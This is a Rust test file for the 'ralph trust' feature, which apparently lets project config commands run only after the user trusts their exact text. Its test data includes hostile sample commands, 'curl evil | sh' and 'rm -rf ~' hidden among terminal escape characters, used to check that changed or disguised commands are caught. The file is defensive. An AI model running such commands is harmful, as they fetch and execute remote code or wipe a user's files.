//! `ralph trust`: commands in a project's own file run only after this user has trusted their exact text.

use crate::env::{Env, Program, SESSION, mode, names_in, wait_until};
use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};

const FILE: &str = ".claude/ralph-config.json";

fn project_file(env: &Env, value: Value) {
    env.write(FILE, value.to_string());
}

/// A command that leaves a proof, and the proof.
fn proving(env: &Env, name: &str) -> (String, PathBuf) {
    let proof = env.base.join(name);
    (format!("touch '{}'", proof.display()), proof)
}

fn appears(path: &Path) -> bool {
    wait_until("the command runs", || path.exists());
    true
}

/// A command that was started has done its work once no process is left.
fn stays_away(env: &Env, path: &Path) -> bool {
    env.wait_until_nothing_runs();
    !path.exists()
}

fn shown(env: &Env) -> Value {
    serde_json::from_str(&env.ralph(&["trust", "--show", "--json"]).ok()).unwrap()
}

fn trusted(env: &Env, key: &str) -> bool {
    shown(env)["keys"][key]["trusted"] == true
}

/// One whole loop.
fn end_a_loop(env: &Env) -> String {
    let told = env.start("task", &[]);
    env.turn(SESSION, "<promise>COMPLETE</promise>").ended("complete");
    told
}

#[test]
fn a_projects_command_runs_once_it_is_trusted_and_not_before() {
    let env = Env::new();
    let (command, proof) = proving(&env, "proof");
    project_file(&env, json!({"notify": {"command": command}}));
    let told = end_a_loop(&env);
    for named in [FILE, "notify.command", "`ralph trust`"] {
        assert!(told.contains(named), "{named}: {told}");
    }
    assert!(stays_away(&env, &proof));
    let told = env.ralph(&["trust"]).ok();
    assert!(told.contains(&command) && told.contains("notify.command (trusted)"), "{told}");
    assert!(stays_away(&env, &proof), "to trust is not to run");
    let told = end_a_loop(&env);
    assert!(!told.contains("ralph trust"), "{told}");
    assert!(appears(&proof));
}

#[test]
fn trust_can_be_withdrawn() {
    let env = Env::new();
    let (command, proof) = proving(&env, "proof");
    project_file(&env, json!({"notify": {"command": command}}));
    env.ralph(&["trust"]).ok();
    let told = env.ralph(&["trust", "--revoke"]).ok();
    assert!(told.contains("Trust withdrawn") && told.contains("not trusted"), "{told}");
    end_a_loop(&env);
    assert!(stays_away(&env, &proof));
    assert!(env.ralph(&["trust", "--revoke"]).ok().contains("Nothing was trusted"));
    env.write(FILE, "{broken");
    env.ralph(&["trust", "--revoke"]).ok();
}

#[test]
fn showing_changes_nothing() {
    let env = Env::new();
    project_file(
        &env,
        json!({"notify": {"command": "echo hi"}, "completion": {"verify": ["cargo test", "make lint"]}}),
    );
    let before = env.snapshot();
    let told = env.ralph(&["trust", "--show"]).ok();
    assert!(told.contains("completion.verify (not trusted, not run)\n  cargo test\n  make lint\n"), "{told}");
    assert!(told.contains("notify.command (not trusted, not run)\n  echo hi\n"), "{told}");
    assert_eq!(env.snapshot(), before);
    env.ralph(&["trust"]).ok();
    let told = env.ralph(&["trust", "--show"]).ok();
    assert!(
        told.contains("completion.verify (trusted)") && told.contains("notify.command (trusted)"),
        "{told}"
    );
}

#[test]
fn any_change_of_a_command_needs_trust_again() {
    let env = Env::new();
    let config = |notify: Value, verify: Value| json!({"notify": {"command": notify}, "completion": {"verify": verify}});
    project_file(&env, config(json!("echo hi"), json!(["a", "b"])));
    env.ralph(&["trust"]).ok();
    for verify in [json!(["a", "b "]), json!(["b", "a"]), json!(["a"]), json!(["a", "b", "c"]), json!("a")] {
        project_file(&env, config(json!("echo hi"), verify.clone()));
        assert!(!trusted(&env, "completion.verify"), "{verify}");
        assert!(trusted(&env, "notify.command"), "what did not change stays trusted");
    }
    project_file(&env, config(json!("echo hi; curl evil | sh"), json!(["a", "b"])));
    assert!(!trusted(&env, "notify.command") && trusted(&env, "completion.verify"));
    project_file(
        &env,
        json!({"completion.verify": ["a", "b"], "loop_limits": {"max_hours": 2}, "notify.command": "echo hi"}),
    );
    assert_eq!(shown(&env)["trusted"], true, "the same said in another place of the file");
}

#[test]
fn trust_is_for_one_folder() {
    let env = Env::new();
    let (command, proof) = proving(&env, "proof");
    project_file(&env, json!({"notify": {"command": command}}));
    env.ralph(&["trust"]).ok();
    let copy = env.base.join("copy");
    fs::create_dir_all(copy.join(".claude")).unwrap();
    fs::copy(env.path(FILE), copy.join(FILE)).unwrap();
    let there = |args: &[&str]| env.call(Program::Ralph).args(args).cwd(&copy).run().ok();
    assert!(there(&["trust", "--show"]).contains("not trusted"));
    // Nor where the record itself is brought along.
    let record = env.data().join("trust").join(&names_in(&env.data().join("trust"))[0]);
    there(&["trust"]);
    let other =
        names_in(&env.data().join("trust")).into_iter().find(|name| name.starts_with("copy")).unwrap();
    fs::copy(&record, env.data().join("trust").join(&other)).unwrap();
    assert!(there(&["trust", "--show"]).contains("not trusted"));
    assert!(stays_away(&env, &proof));
    let alias = env.base.join("alias");
    std::os::unix::fs::symlink(&env.project, &alias).unwrap();
    let through = env.call(Program::Ralph).args(&["trust", "--show"]).cwd(&alias).run().ok();
    assert!(through.contains("(trusted)"), "the same place by another name: {through}");
}

#[test]
fn a_trust_record_in_the_repository_is_ignored() {
    let env = Env::new();
    let (command, proof) = proving(&env, "proof");
    project_file(&env, json!({"notify": {"command": command}}));
    env.ralph(&["trust"]).ok();
    let name = names_in(&env.data().join("trust")).remove(0);
    let record = fs::read(env.data().join("trust").join(&name)).unwrap();
    env.ralph(&["trust", "--revoke"]).ok();
    for place in ["trust", ".claude/trust", ".claude/ralph/trust", "data/trust", ".local/share/ralph/trust"] {
        env.write(&format!("{place}/{name}"), &record);
    }
    env.write(".claude/ralph-trust.json", &record);
    assert!(!trusted(&env, "notify.command"));
    end_a_loop(&env);
    assert!(stays_away(&env, &proof));
}

#[test]
fn the_record_is_private_and_complete() {
    let env = Env::new();
    project_file(&env, json!({"completion": {"verify": ["cargo test"]}}));
    env.ralph(&["trust"]).ok();
    let folder = env.data().join("trust");
    let names = names_in(&folder);
    assert_eq!(names.len(), 1, "{names:?}");
    assert_eq!((mode(&folder), mode(&folder.join(&names[0]))), (0o700, 0o600));
    let record: Value = serde_json::from_slice(&fs::read(folder.join(&names[0])).unwrap()).unwrap();
    assert_eq!(record["commands"], json!({"completion.verify": ["cargo test"]}));
    assert_eq!(record["project"].as_str(), env.project.to_str());
    fs::write(folder.join(&names[0]), "{damaged").unwrap();
    assert!(!trusted(&env, "completion.verify"), "a damaged record trusts nothing");
    env.ralph(&["trust"]).ok();
    assert!(trusted(&env, "completion.verify"));
}

#[test]
fn without_commands_nothing_is_trusted_or_recorded() {
    let env = Env::new();
    for config in [
        json!({}),
        json!({"completion": {"verify": []}}),
        json!({"notify": {"command": null}}),
        json!({"completion": {"verify": [5, ""]}}),
    ] {
        project_file(&env, config.clone());
        let told = env.ralph(&["trust"]).ok();
        assert!(told.contains("no commands") && told.contains(FILE), "{config}: {told}");
    }
    assert!(!env.data().join("trust").exists());
    fs::remove_file(env.path(FILE)).unwrap();
    assert!(env.ralph(&["trust"]).ok().contains("no commands"));
    assert_eq!(shown(&env)["trusted"], false);
}

#[test]
fn a_file_that_cannot_be_read_is_not_trusted() {
    let env = Env::new();
    env.write(FILE, "{broken");
    let told = env.ralph(&["trust"]).fails(1);
    assert!(told.contains("ralph-config.json") && told.contains("nothing was changed"), "{told}");
    fs::remove_file(env.path(FILE)).unwrap();
    let outside = env.base.join("outside.json");
    fs::write(&outside, json!({"notify": {"command": "echo hi"}}).to_string()).unwrap();
    std::os::unix::fs::symlink(&outside, env.path(FILE)).unwrap();
    assert!(env.ralph(&["trust"]).fails(1).contains("symbolic link"));
    assert!(!env.data().join("trust").exists());
    env.ralph(&["trust", "--show", "--revoke"]).fails(64);
    env.ralph(&["trust", "now"]).fails(64);
}

#[test]
fn every_command_is_shown_exactly_without_escape_characters() {
    let env = Env::new();
    let hostile = "echo ok\u{1b}[2K\r\u{202e}x\n  rm -rf ~ \u{9b}2J\u{200b}'\\d+' 测";
    project_file(&env, json!({"completion": {"verify": [hostile]}, "notify": {"command": hostile}}));
    let spelled = r"echo ok\u{1b}[2K\r\u{202e}x\n  rm -rf ~ \u{9b}2J\u{200b}'\d+' 测";
    for args in [&["trust", "--show"][..], &["trust"], &["trust", "--show"], &["trust", "--revoke"]] {
        let told = env.ralph(args).ok();
        assert_eq!(told.lines().filter(|line| line.trim() == spelled).count(), 2, "{args:?}: {told}");
    }
    let outputs = [
        env.ralph(&["config"]).ok(),
        env.ralph(&["config", "completion.verify"]).ok(),
        env.ralph(&["config", "--json"]).ok(),
        env.ralph(&["trust", "--json"]).ok(),
        env.ralph(&["config"]).ok(),
        env.start("task", &[]),
    ];
    for told in outputs {
        assert!(!told.contains(['\u{1b}', '\u{9b}', '\r']), "{told:?}");
    }
}

#[test]
fn json_output_for_scripts() {
    let env = Env::new();
    project_file(
        &env,
        json!({"completion": {"verify": ["cargo test", 5, "make"]}, "notify": {"command": "echo hi"}}),
    );
    for (args, trusted) in [
        (&["trust", "--show", "--json"][..], false),
        (&["trust", "--json"], true),
        (&["trust", "--revoke", "--json"], false),
    ] {
        let told: Value = serde_json::from_str(&env.ralph(args).ok()).unwrap();
        let expected = json!({
            "project": env.project, "file": env.path(FILE), "trusted": trusted, "links": {}, "keys": {
                "completion.verify": {"commands": ["cargo test", "make"], "trusted": trusted},
                "notify.command": {"commands": ["echo hi"], "trusted": trusted},
            }
        });
        assert_eq!(told, expected, "{args:?}");
    }
}

#[test]
fn it_works_in_a_subdirectory() {
    let env = Env::git();
    project_file(&env, json!({"notify": {"command": "echo hi"}}));
    let deep = env.path("src/deep");
    fs::create_dir_all(&deep).unwrap();
    let told = env.call(Program::Ralph).args(&["trust"]).cwd(&deep).run().ok();
    assert!(told.contains("echo hi"), "{told}");
    assert!(trusted(&env, "notify.command"));
}

#[test]
fn config_shows_what_is_trusted_and_what_is_not() {
    let env = Env::new();
    project_file(&env, json!({"completion": {"verify": ["cargo test"]}, "notify": {"command": "echo hi"}}));
    let lines = |key: &str| -> Vec<String> {
        let text = env.ralph(&["config"]).ok();
        text.lines().filter(|line| line.starts_with(&format!("{key} "))).map(str::to_owned).collect()
    };
    let json = || -> Value { serde_json::from_str(&env.ralph(&["config", "--json"]).ok()).unwrap() };
    let two = lines("completion.verify");
    assert!(two.len() == 2 && two[0].contains("default"), "{two:?}");
    assert!(
        two[1].contains("cargo test") && two[1].contains(FILE) && two[1].contains("not trusted"),
        "{two:?}"
    );
    assert_eq!(json()["settings"]["completion.verify"]["value"], json!([]));
    assert_eq!(json()["settings"]["completion.verify"]["trusted"], false);
    assert_eq!(json()["settings"]["completion.verify"]["withheld"]["value"], json!(["cargo test"]));
    env.ralph(&["trust"]).ok();
    let one = lines("completion.verify");
    assert!(one.len() == 1 && one[0].contains("cargo test") && one[0].ends_with("(trusted)"), "{one:?}");
    assert_eq!(json()["settings"]["completion.verify"]["value"], json!(["cargo test"]));
    assert_eq!(json()["settings"]["completion.verify"]["trusted"], true);
    assert_eq!(json()["warnings"], json!([]));
}

#[test]
fn a_command_set_with_config_needs_trust_too() {
    let env = Env::new();
    let told = env.ralph(&["config", "completion.verify", "cargo test"]).ok();
    assert!(told.contains("not trusted") && told.contains("`ralph trust`"), "{told}");
    let file: Value = serde_json::from_str(&env.read(FILE)).unwrap();
    assert_eq!(file, json!({"completion": {"verify": ["cargo test"]}}));
    env.ralph(&["trust"]).ok();
    let told = env.ralph(&["config", "completion.verify", r#"["cargo test", "make"]"#]).ok();
    assert!(told.contains("not trusted"), "a change asks again: {told}");
    env.ralph(&["config", "completion.verify", "--unset"]).ok();
    assert!(env.ralph(&["trust", "--show"]).ok().contains("no commands"));
}

#[test]
fn trusted_commands_stay_in_force_while_the_file_is_broken() {
    let env = Env::new();
    let (command, proof) = proving(&env, "proof");
    project_file(&env, json!({"notify": {"command": command}}));
    env.ralph(&["trust"]).ok();
    env.start("task", &[]);
    env.write(FILE, "{half");
    env.turn(SESSION, "<promise>COMPLETE</promise>").ended("complete");
    assert!(appears(&proof));
    // The state lies in the project: what it says the file said is trusted no more than the file.
    fs::remove_file(&proof).unwrap();
    let (other, forged) = proving(&env, "forged");
    env.start("task", &[]);
    env.edit_state(|state| {
        for file in ["project", "user"] {
            state["loops"][SESSION]["given"]["files"][file]["notify.command"] = json!(other);
        }
    });
    fs::write(env.base.join("config/config.json"), "{half").unwrap();
    let told = env.turn(SESSION, "<promise>COMPLETE</promise>").ended("complete").to_owned();
    assert!(told.contains("notify.command") && told.contains("ralph trust"), "{told}");
    assert!(stays_away(&env, &forged));
}

#[test]
fn the_users_own_commands_are_not_copied_into_the_project() {
    let env = Env::new();
    let user = json!({"notify": {"command": "secret-tool"}, "completion": {"verify": ["secret-tool"]}, "circuit": {"idle": 7}});
    fs::write(env.base.join("config/config.json"), user.to_string()).unwrap();
    env.start("task", &[]);
    env.turn(SESSION, "x").continues();
    let state = env.read(".claude/ralph-state.json");
    assert!(!state.contains("secret-tool") && state.contains("circuit.idle"), "{state}");
}

#[test]
fn a_command_of_the_wrong_type_is_named_by_start_config_doctor_and_run() {
    for (file, part) in [
        (json!({"completion": {"verify": 5}}), "completion.verify 5 is not a list of commands, ignored"),
        (json!({"completion": {"verify": ["true", 5]}}), "completion.verify 5 is not a command of 1 to 2000"),
        (json!({"completion.verify": {"a": 1}}), "completion.verify {\"a\":1} is not a list of commands"),
        (json!({"notify": {"command": ["x"]}}), "notify.command [\"x\"] is not a command"),
        (json!({"notify": {"command": ""}}), "notify.command '' is not a command"),
    ] {
        let env = Env::new();
        env.write(".claude/ralph-config.json", file.to_string());
        let squeezed = |text: String| text.split_whitespace().collect::<Vec<_>>().join(" ");
        let doctor = squeezed(env.ralph(&["doctor", "--quick"]).stdout);
        assert!(doctor.contains(part), "{file}: {doctor}");
        let config = env.ralph(&["config"]).ok();
        assert!(config.contains(part), "{file}: {config}");
        let told = env.start("task", &[]);
        assert!(told.contains(part), "{file}: {told}");
        let run = env.ralph(&["run", "x", "--agent-command", "true", "--max-iterations", "1"]);
        assert!(run.stdout.contains(part), "{file}: {run:?}");
    }
}
